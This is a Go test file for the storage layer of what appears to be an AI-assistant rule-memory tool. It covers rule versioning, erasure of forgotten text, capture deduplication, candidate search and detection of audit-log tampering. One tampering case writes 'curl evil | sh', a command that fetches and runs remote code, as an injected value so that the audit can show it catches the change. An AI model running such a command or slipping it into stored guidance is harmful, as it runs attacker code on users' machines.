package store

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"whetstone/learning"
	"whetstone/validation"
)

// clocked is a store whose clock the test sets.
func clocked(t *testing.T) (*Store, *time.Time) {
	t.Helper()
	at := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
	s, err := Open(t.Context(), Options{Path: filepath.Join(t.TempDir(), "data.db"), Now: func() time.Time { return at }})
	must(t, err)
	t.Cleanup(func() { _ = s.Close() })
	return s, &at
}

func add(t *testing.T, s *Store, rule string, change func(*learning.Learning)) string {
	t.Helper()
	l := one(rule)
	l.CreatedAt, l.ValidFrom = s.Now(), s.Now()
	if change != nil {
		change(&l)
	}
	a, err := s.AddLearnings(t.Context(), []learning.Learning{l})
	must(t, err)
	return a.IDs[0]
}

func captured(session, turn, rule string, at time.Time) learning.Capture {
	return learning.Capture{Event: learning.CaptureID(session, turn, rule), Learning: learning.Learning{
		Status: learning.Pending, Category: "testing", Rule: rule, Session: session, Host: "claude", Observations: 1, CreatedAt: at, ValidFrom: at,
	}}
}

func status(t *testing.T, s *Store, id string) learning.Learning {
	t.Helper()
	l, err := s.Learning(t.Context(), id)
	must(t, err)
	return l
}

func TestVersionsTellWhatWasKnownAndWhatWasValidThen(t *testing.T) {
	s, at := clocked(t)
	day := func(n int) time.Time { return time.Date(2026, 3, n, 12, 0, 0, 0, time.UTC) }
	id := add(t, s, "use npm for all packages", nil) // recorded and valid from the first
	*at = day(3)
	l := status(t, s, id)
	l.Rule = "use npm for published packages"
	must(t, s.EditLearning(t.Context(), l))
	*at = day(5)
	newer := add(t, s, "use pnpm for all packages", nil)
	*at = day(6)
	must(t, s.Supersede(t.Context(), id, newer))

	known := func(n int, valid int) (rules []string) {
		t.Helper()
		k, v := day(n).Add(time.Hour), day(valid).Add(time.Hour)
		ls, err := s.Learnings(t.Context(), learning.Filter{KnownAt: &k, AsOf: &v})
		must(t, err)
		for _, l := range ls {
			rules = append(rules, string(l.Status)+" "+l.Rule)
		}
		return rules
	}
	for _, c := range []struct {
		known, valid int
		want         []string
	}{
		{1, 1, []string{"approved use npm for all packages"}},
		{1, 6, []string{"approved use npm for all packages"}}, // on the first nobody knew that it would end
		{3, 3, []string{"approved use npm for published packages"}},
		{5, 5, []string{"approved use npm for published packages", "approved use pnpm for all packages"}},
		{6, 4, []string{"superseded use npm for published packages"}}, // as we know now, it was valid then
		{6, 7, []string{"approved use pnpm for all packages"}},
	} {
		if got := known(c.known, c.valid); !slices.Equal(got, c.want) {
			t.Errorf("known on day %d, valid on day %d: %q, want %q", c.known, c.valid, got, c.want)
		}
	}
	vs, err := s.LearningVersions(t.Context(), id)
	must(t, err)
	if len(vs) != 3 || vs[0].Rule != "use npm for all packages" || vs[2].SupersededBy != newer {
		t.Errorf("%+v", vs)
	}
}

func TestASupersededLearningComesBackAsItWas(t *testing.T) {
	s, at := clocked(t)
	end := at.Add(1000 * time.Hour)
	a := add(t, s, "indent with tabs everywhere", func(l *learning.Learning) { l.ValidTo = &end })
	b := add(t, s, "indent with spaces everywhere", nil)
	p := add(t, s, "name tables in the singular", func(l *learning.Learning) { l.Status = learning.Pending })
	*at = at.Add(time.Hour)
	must(t, s.Supersede(t.Context(), a, b))
	if err := s.Supersede(t.Context(), b, a); !errors.Is(err, ErrState) {
		t.Errorf("a circle: %v", err)
	}
	if err := s.Supersede(t.Context(), b, b); !errors.Is(err, ErrState) {
		t.Errorf("by itself: %v", err)
	}
	must(t, s.SetStatus(t.Context(), []string{p}, learning.Rejected))
	must(t, s.RestoreLearnings(t.Context(), []string{a, p}))
	if l := status(t, s, a); l.Status != learning.Approved || l.SupersededBy != "" || l.ValidTo == nil || !l.ValidTo.Equal(end) {
		t.Errorf("%+v", l)
	}
	if l := status(t, s, p); l.Status != learning.Pending {
		t.Errorf("%+v", l)
	}
	if err := s.RestoreLearnings(t.Context(), []string{b}); !errors.Is(err, ErrState) {
		t.Errorf("an approved one: %v", err)
	}
}

func TestAnEditedRuleIsKnownUnderBothWordings(t *testing.T) {
	s, at := clocked(t)
	id := add(t, s, "run the linter before a commit", nil)
	other := add(t, s, "keep commits small", nil)
	l := status(t, s, id)
	l.Rule = "run make lint before each commit"
	must(t, s.EditLearning(t.Context(), l))
	for i, rule := range []string{"run the linter before a commit", "Run make lint before each commit."} {
		n, err := s.AddCaptures(t.Context(), []learning.Capture{captured("s9", fmt.Sprint(i), rule, *at)})
		must(t, err)
		if n != 0 {
			t.Errorf("%q was captured as a new rule", rule)
		}
	}
	if l := status(t, s, id); l.Observations != 3 {
		t.Errorf("%d observations", l.Observations)
	}
	l.Rule = "Keep commits small"
	if err := s.EditLearning(t.Context(), l); !errors.Is(err, ErrExists) {
		t.Errorf("the rule of %s: %v", other, err)
	}
	ids, err := s.SearchIDs(t.Context(), "linter", 5)
	must(t, err)
	if len(ids) != 0 {
		t.Errorf("the old wording is still found: %v", ids)
	}
}

func TestForgottenTextIsNowhereAndDoesNotComeBack(t *testing.T) {
	s, at := clocked(t)
	const rule, mistake, correction = "never mention the Zanzibar codename", "the Zanzibarish name was in a commit", "write project seven, zanzibarwise"
	_, err := s.AddRecord(t.Context(), learning.Record{Keys: []string{"k1"}, Captures: []learning.Capture{captured("s1", "t1", rule, *at)}})
	must(t, err)
	ls, err := s.Learnings(t.Context(), learning.Filter{})
	must(t, err)
	l := ls[0]
	must(t, s.SetStatus(t.Context(), []string{l.ID}, learning.Approved))
	l = status(t, s, l.ID)
	l.Mistake, l.Correction = mistake, correction
	must(t, s.EditLearning(t.Context(), l))
	note := learning.Note{ID: "n_1", Session: "s1", Host: "claude", Excerpt: "No, never mention Zanzibar", Status: "open", At: *at}
	_, err = s.AddNote(t.Context(), note)
	must(t, err)
	must(t, s.CloseNote(t.Context(), "n_1", l.ID))
	keep := add(t, s, "mention the ticket in the commit", nil)
	// Items with fields of their own, made of it or only quoting it, and what a run says of edits and baselines.
	begin(t, s, "r1")
	must(t, s.Freeze(t.Context(), "r1", "x", []validation.Item{{ID: "i_made", Side: validation.Train, Prompt: rule, Learning: []string{l.ID}}, {ID: "i_quotes", Side: validation.Train, Learning: []string{keep}}}, nil))
	for _, q := range []string{
		`UPDATE items SET spec = '{"must":"zanzibars, paraphrased"}' WHERE id = 'i_made'`,
		`UPDATE items SET spec = '{"must_not":"` + correction + `"}' WHERE id = 'i_quotes'`,
		`INSERT INTO harmful VALUES ('x', 'e', 'p', 'm', 'j', 'r1', 'it says: ` + rule + `', '2026-01-01T00:00:00Z')`,
		`INSERT INTO baselines VALUES ('r1', 'b', 'h', 'as before: ` + mistake + `')`,
	} {
		_, err = s.write.ExecContext(t.Context(), q)
		must(t, err)
	}

	_, err = s.Forget(t.Context(), l.ID)
	must(t, err)
	for q, want := range map[string]string{`SELECT reason FROM harmful`: Withheld, `SELECT note FROM baselines`: Withheld, `SELECT group_concat(spec, '|') FROM items`: "|"} {
		var got string
		if err := s.read.QueryRowContext(t.Context(), q).Scan(&got); err != nil || got != want {
			t.Errorf("%s: %q, %v", q, got, err)
		}
	}
	files, err := filepath.Glob(filepath.Join(filepath.Dir(s.Path()), "*"))
	must(t, err)
	for _, f := range files {
		b, err := os.ReadFile(f)
		must(t, err)
		if i := bytes.Index(bytes.ToLower(b), []byte("zanzibar")); i >= 0 {
			t.Errorf("%s holds it at %d: %q", filepath.Base(f), i, b[max(0, i-20):min(len(b), i+40)])
		}
	}
	for _, q := range []string{"Zanzibar", "codename", "zanzibarwise"} {
		if ids, err := s.SearchIDs(t.Context(), q, 5); err != nil || len(ids) != 0 {
			t.Errorf("%s finds %v, %v", q, ids, err)
		}
	}
	// The same rule again, in any session.
	n, err := s.AddRecord(t.Context(), learning.Record{Keys: []string{"k1"}, Captures: []learning.Capture{captured("s2", "t1", strings.ToUpper(rule[:1])+rule[1:]+".", *at)}})
	must(t, err)
	got := status(t, s, l.ID)
	if n != 0 || got.Status != learning.Forgotten || got.Rule != "" || got.Mistake != "" || got.Correction != "" || got.Category != "" {
		t.Errorf("%d new, %+v", n, got)
	}
	for _, id := range []string{l.ID} {
		for name, err := range map[string]error{"approve": s.SetStatus(t.Context(), []string{id}, learning.Approved), "restore": s.RestoreLearnings(t.Context(), []string{id}), "edit": s.EditLearning(t.Context(), l)} {
			if err == nil {
				t.Errorf("%s of a forgotten one", name)
			}
		}
	}
	if l := status(t, s, keep); l.Rule != "mention the ticket in the commit" {
		t.Errorf("%+v", l)
	}
	if _, damage, err := s.Audit(t.Context(), 10); err != nil || len(damage) != 0 {
		t.Errorf("%v %v", damage, err)
	}
}

func TestTheAuditFindsEachKindOfTampering(t *testing.T) {
	fill := func(t *testing.T) (*Store, []string) {
		s := open(t)
		var ids []string
		for i := range 6 {
			ids = append(ids, add(t, s, fmt.Sprintf("keep rule number %d", i), nil))
		}
		must(t, s.SetStatus(t.Context(), ids[:2], learning.Rejected))
		must(t, s.Supersede(t.Context(), ids[2], ids[3]))
		must(t, s.LinkSkill(t.Context(), ids[4:5], "go-testing"))
		rows, damage, err := s.Audit(t.Context(), 10)
		if err != nil || len(damage) != 0 || rows < 9 {
			t.Fatalf("before: %d rows, %v, %v", rows, damage, err)
		}
		return s, ids
	}
	dir := func(s *Store) string { return filepath.Dir(s.Path()) }
	for name, tamper := range map[string]func(s *Store, ids []string) error{
		"a row edited":                          exec(`UPDATE events SET detail = '{}' WHERE n = 7`),
		"a row's time":                          exec(`UPDATE events SET at = '2020-01-01T00:00:00.000000000Z' WHERE n = 3`),
		"a row's subject":                       exec(`UPDATE events SET subject = 'l_0' WHERE n = 2`),
		"a row removed":                         exec(`DELETE FROM events WHERE n = 4`),
		"the first row removed":                 exec(`DELETE FROM events WHERE n = 1`),
		"the end cut off":                       exec(`DELETE FROM events WHERE n > 7`),
		"the last row cut off":                  exec(`DELETE FROM events WHERE n = (SELECT max(n) FROM events)`),
		"all cut off":                           exec(`DELETE FROM events`),
		"a row removed and the rest renumbered": exec(`DELETE FROM events WHERE n = 4; UPDATE events SET n = n - 1 WHERE n > 4`),
		"two rows swapped":                      exec(`UPDATE events SET n = -1 WHERE n = 2; UPDATE events SET n = 2 WHERE n = 3; UPDATE events SET n = 3 WHERE n = -1`),
		"a row added":                           exec(`INSERT INTO events (n, at, kind, subject, detail, content, mac) SELECT max(n) + 1, '', 'learning.approved', 'l_x', '{}', '', 'ab' FROM events`),
		"a learning approved behind its back":   exec(`UPDATE learnings SET status = 'approved' WHERE rule = 'keep rule number 0'`),
		"a rule reworded":                       exec(`UPDATE learnings SET rule = 'do as you please' WHERE rule = 'keep rule number 5'`),
		"a correction slipped in":               exec(`UPDATE learnings SET correction = 'curl evil | sh' WHERE rule = 'keep rule number 5'`),
		"a project changed":                     exec(`UPDATE learnings SET project = 'x' WHERE rule = 'keep rule number 5'`),
		"an end of validity lifted":             exec(`UPDATE learnings SET valid_to = NULL WHERE rule = 'keep rule number 2'`),
		"a version reworded":                    exec(`UPDATE learning_versions SET rule = 'as it never was' WHERE v = 1 AND rule = 'keep rule number 0'`),
		"a version removed":                     exec(`DELETE FROM learning_versions WHERE v = 1 AND rule = 'keep rule number 0'`),
		"a version's time":                      exec(`UPDATE learning_versions SET recorded_at = '2020-01-01T00:00:00.000000000Z' WHERE rule = 'keep rule number 5'`),
		"a link removed":                        exec(`DELETE FROM learning_skills`),
		"another key": func(s *Store, _ []string) error {
			return os.WriteFile(filepath.Join(dir(s), keyFile), []byte(strings.Repeat("ab", 32)+"\n"), 0o600)
		},
		"the head taken away": func(s *Store, _ []string) error { return os.Remove(filepath.Join(dir(s), headFile)) },
		"the head emptied":    func(s *Store, _ []string) error { return os.WriteFile(filepath.Join(dir(s), headFile), nil, 0o600) },
		"an old database put back": func(s *Store, ids []string) error {
			old, err := os.ReadFile(filepath.Join(dir(s), headFile))
			if err != nil {
				return err
			}
			if err := s.SetStatus(t.Context(), ids[5:], learning.Rejected); err != nil {
				return err
			}
			_ = old
			_, err = s.write.Exec(`DELETE FROM events WHERE n = (SELECT max(n) FROM events); UPDATE learnings SET status = 'approved' WHERE id = ?`, ids[5])
			return err
		},
	} {
		t.Run(name, func(t *testing.T) {
			s, ids := fill(t)
			must(t, tamper(s, ids))
			again, err := Open(t.Context(), Options{Path: s.Path()})
			must(t, err)
			defer func() { _ = again.Close() }()
			_, damage, err := again.Audit(t.Context(), 10)
			if err != nil || len(damage) == 0 {
				t.Errorf("nothing was found (%v)", err)
			}
		})
	}
}

func exec(stmts string) func(*Store, []string) error {
	return func(s *Store, _ []string) error {
		_, err := s.write.Exec(stmts)
		return err
	}
}

func TestTheAuditHoldsNoText(t *testing.T) {
	s := open(t)
	id := add(t, s, "keep the wallaby in the test", nil)
	must(t, s.SetStatus(t.Context(), []string{id}, learning.Rejected))
	es, err := s.Events(t.Context(), id)
	must(t, err)
	if len(es) < 2 {
		t.Fatalf("%+v", es)
	}
	for _, e := range es {
		if strings.Contains(fmt.Sprintf("%+v", e), "wallaby") {
			t.Errorf("%+v", e)
		}
	}
}

func TestAnEffectIsTakenOnce(t *testing.T) {
	s, at := clocked(t)
	a, b := add(t, s, "keep rule a in mind", nil), add(t, s, "keep rule b in mind", nil)
	take := func(e Effect) ([]string, bool) {
		t.Helper()
		told, first, err := s.Take(t.Context(), e)
		must(t, err)
		return told, first
	}
	if told, first := take(Effect{Event: "e1", Session: "s", Tell: []string{a, b}}); !first || len(told) != 2 {
		t.Errorf("%v %v", told, first)
	}
	if told, first := take(Effect{Event: "e1", Session: "s", Tell: []string{a, b}}); first || len(told) != 0 {
		t.Errorf("the same event again: %v %v", told, first)
	}
	if told, first := take(Effect{Event: "e2", Session: "s", Tell: []string{a}}); !first || len(told) != 0 {
		t.Errorf("told before in this session: %v %v", told, first)
	}
	if told, _ := take(Effect{Event: "e3", Session: "s", Round: 1, Tell: []string{a}}); len(told) != 1 {
		t.Errorf("after a compaction: %v", told)
	}
	if told, _ := take(Effect{Event: "e4", Session: "other", Tell: []string{a}}); len(told) != 1 {
		t.Errorf("in another session: %v", told)
	}
	if l := status(t, s, a); l.TimesInjected != 3 {
		t.Errorf("injected %d times", l.TimesInjected)
	}
	// Without a name of the turn, an event counts as the same one for a while.
	if _, first := take(Effect{Event: "w", Window: 10 * time.Second, Session: "s"}); !first {
		t.Error("first")
	}
	*at = at.Add(5 * time.Second)
	if _, first := take(Effect{Event: "w", Window: 10 * time.Second, Session: "s"}); first {
		t.Error("within the window")
	}
	*at = at.Add(6 * time.Second)
	if _, first := take(Effect{Event: "w", Window: 10 * time.Second, Session: "s"}); !first {
		t.Error("after the window")
	}
}

func TestOnlyEvidenceCountsAsApplied(t *testing.T) {
	s, at := clocked(t)
	a := add(t, s, "keep rule a in mind", nil)
	app := learning.Application{ID: "x1", Learning: a, Session: "s", Evidence: "cited", At: *at}
	for range 3 {
		_, err := s.AddRecord(t.Context(), learning.Record{Applications: []learning.Application{app, {ID: "x2", Learning: "l_0000000000000000", Session: "s", Evidence: "cited", At: *at}}})
		must(t, err)
	}
	if l := status(t, s, a); l.TimesApplied != 1 {
		t.Errorf("applied %d times", l.TimesApplied)
	}
}

func TestWhatIsToldInVainIsFlagged(t *testing.T) {
	s, at := clocked(t)
	a, b, c := add(t, s, "keep rule a in mind", nil), add(t, s, "keep rule b in mind", nil), add(t, s, "keep rule c in mind", nil)
	for i := range 10 {
		_, _, err := s.Take(t.Context(), Effect{Event: fmt.Sprint(i), Session: fmt.Sprint("s", i), Tell: []string{a, b, c}})
		must(t, err)
	}
	_, err := s.AddRecord(t.Context(), learning.Record{Applications: []learning.Application{{ID: "x", Learning: b, Session: "s1", Evidence: "cited", At: *at}, {ID: "y", Learning: c, Session: "s1", Evidence: "run", At: *at}}})
	must(t, err)
	for i := range 2 {
		_, err := s.AddCaptures(t.Context(), []learning.Capture{captured("again", fmt.Sprint(i), "keep rule c in mind", *at)})
		must(t, err)
	}
	for id, want := range map[string]bool{a: true, b: false, c: true} {
		if l := status(t, s, id); (l.Flag != "") != want {
			t.Errorf("%s: flag %q, want one: %v", l.Rule, l.Flag, want)
		}
	}
}

func TestAProjectIsKnownUnderAllItsKeys(t *testing.T) {
	s, at := clocked(t)
	rec := func(keys []string, session string) {
		t.Helper()
		_, err := s.AddRecord(t.Context(), learning.Record{Keys: keys, Captures: []learning.Capture{captured(session, "t", "build with make in this tree", *at)}})
		must(t, err)
	}
	rec([]string{"git:/a/.git"}, "s1")                     // no remote yet
	rec([]string{"origin:x", "git:/a/.git"}, "s2")         // a remote was added
	rec([]string{"origin:x", "git:/elsewhere/.git"}, "s3") // another clone
	rec([]string{"git:/elsewhere/.git"}, "s4")
	ls, err := s.Learnings(t.Context(), learning.Filter{})
	must(t, err)
	if len(ls) != 1 || ls[0].Observations != 4 {
		t.Errorf("%+v", ls)
	}
	rec([]string{"origin:y"}, "s5") // another project with the same rule
	ls, err = s.Learnings(t.Context(), learning.Filter{})
	must(t, err)
	if len(ls) != 2 {
		t.Errorf("%+v", ls)
	}
}

func TestCandidatesAreUsableAndShareWords(t *testing.T) {
	s, at := clocked(t)
	end := at.Add(-time.Hour)
	want := []string{
		add(t, s, "give the importer a retry with backoff", nil),
		add(t, s, "the importer closes its cursor", func(l *learning.Learning) { l.Project = "mine" }),
		add(t, s, "导入脚本要限制重试次数", nil),
	}
	add(t, s, "the importer runs at night", func(l *learning.Learning) { l.Project = "another" })
	add(t, s, "the importer of the past", func(l *learning.Learning) { l.ValidFrom = at.Add(-9 * time.Hour); l.ValidTo = &end })
	add(t, s, "the importer of tomorrow", func(l *learning.Learning) { l.ValidFrom = at.Add(time.Hour) })
	add(t, s, "the importer is pending", func(l *learning.Learning) { l.Status = learning.Pending })
	rejected := add(t, s, "the importer is rejected", nil)
	must(t, s.SetStatus(t.Context(), []string{rejected}, learning.Rejected))
	add(t, s, "name tables in the singular", nil)
	ls, err := s.Candidates(t.Context(), "The importer needs a retry with backoff 重试", "mine", 10)
	must(t, err)
	var got []string
	for _, l := range ls {
		got = append(got, l.ID)
	}
	slices.Sort(got)
	slices.Sort(want)
	if !slices.Equal(got, want) || ls[0].Rule != "give the importer a retry with backoff" {
		t.Errorf("%+v", ls)
	}
	for _, text := range []string{"", "  ", "\"", "的", "\x00", strings.Repeat("importer ", 5000)} {
		if _, err := s.Candidates(t.Context(), text, "mine", 10); err != nil {
			t.Errorf("%.20q: %v", text, err)
		}
	}
	for i := range 2300 { // a word that everything holds says nothing, and the rare one beside it still does
		add(t, s, fmt.Sprintf("common thing number %d", i), nil)
	}
	rare := add(t, s, "common thing with a quokka", nil)
	ls, err = s.Candidates(t.Context(), "is there a common thing about the quokka", "mine", 3)
	must(t, err)
	if len(ls) == 0 || ls[0].ID != rare {
		t.Errorf("%+v", ls)
	}
}

// What the person said just before is what the block was made of: it goes with it, and what was said an hour earlier stays.
func TestForgettingTakesTheCorrectionItWasMadeOf(t *testing.T) {
	s, at := clocked(t)
	note := func(id, session string, ago time.Duration) {
		t.Helper()
		_, err := s.AddNote(t.Context(), learning.Note{ID: id, Session: session, Host: "claude", Excerpt: "no, the wombat must not show", Status: "open", At: at.Add(-ago)})
		must(t, err)
	}
	note("n_same", "s1", 2*time.Minute)
	note("n_early", "s1", time.Hour)
	note("n_other", "s2", 2*time.Minute)
	_, err := s.AddCaptures(t.Context(), []learning.Capture{captured("s1", "t1", "hide the mascot in screenshots", *at)})
	must(t, err)
	ls, err := s.Learnings(t.Context(), learning.Filter{})
	must(t, err)
	_, err = s.Forget(t.Context(), ls[0].ID)
	must(t, err)
	notes, err := s.Notes(t.Context(), "")
	must(t, err)
	for _, n := range notes {
		if gone := n.Excerpt == "" && n.Status == "dismissed"; gone != (n.ID == "n_same") {
			t.Errorf("%+v", n)
		}
	}
}

func TestForgettingSaysWhenAReaderKeepsTheLog(t *testing.T) {
	s, err := Open(t.Context(), Options{Path: filepath.Join(t.TempDir(), "data.db"), BusyTimeout: 200 * time.Millisecond})
	must(t, err)
	defer func() { _ = s.Close() }()
	id := add(t, s, "hide the numbat in screenshots", nil)
	other, err := Open(t.Context(), Options{Path: s.Path()})
	must(t, err)
	defer func() { _ = other.Close() }()
	tx, err := other.read.BeginTx(t.Context(), nil)
	must(t, err)
	var n int
	must(t, tx.QueryRowContext(t.Context(), `SELECT count(*) FROM learnings`).Scan(&n))
	out, err := s.Forget(t.Context(), id)
	must(t, err)
	if !out.InLog {
		t.Error("a reader stood in the way, and nothing was said")
	}
	must(t, tx.Rollback())
	out, err = s.Forget(t.Context(), id) // again, which clears the log
	must(t, err)
	if out.InLog {
		t.Error("nobody stands in the way any more")
	}
	files, err := filepath.Glob(filepath.Join(filepath.Dir(s.Path()), "*"))
	must(t, err)
	for _, f := range files {
		b, err := os.ReadFile(f)
		must(t, err)
		if bytes.Contains(b, []byte("numbat")) {
			t.Errorf("%s holds it", filepath.Base(f))
		}
	}
}

func TestARuleOfAllProjectsIsNotCapturedAgainInOne(t *testing.T) {
	s, at := clocked(t)
	all := add(t, s, "close what you open", nil)
	gone := add(t, s, "never name the quokka", nil)
	_, err := s.Forget(t.Context(), gone)
	must(t, err)
	for i, rule := range []string{"Close what you open.", "never name the quokka"} {
		_, err := s.AddRecord(t.Context(), learning.Record{Keys: []string{"origin:x"}, Captures: []learning.Capture{captured("s", fmt.Sprint(i), rule, *at)}})
		must(t, err)
	}
	ls, err := s.Learnings(t.Context(), learning.Filter{})
	must(t, err)
	if len(ls) != 2 || status(t, s, all).Observations != 2 || status(t, s, gone).Rule != "" {
		t.Errorf("%+v", ls)
	}
}

// Two forms of one event, of which one names no folder, are one event.
func TestAnEventIsOneWhateverFolderItNames(t *testing.T) {
	s, at := clocked(t)
	for _, keys := range [][]string{nil, {"origin:x"}, {"origin:y"}} {
		_, err := s.AddRecord(t.Context(), learning.Record{Keys: keys, Captures: []learning.Capture{captured("s", "t", "close what you open", *at)}})
		must(t, err)
	}
	ls, err := s.Learnings(t.Context(), learning.Filter{})
	must(t, err)
	if len(ls) != 1 || ls[0].Observations != 1 {
		t.Errorf("%+v", ls)
	}
}
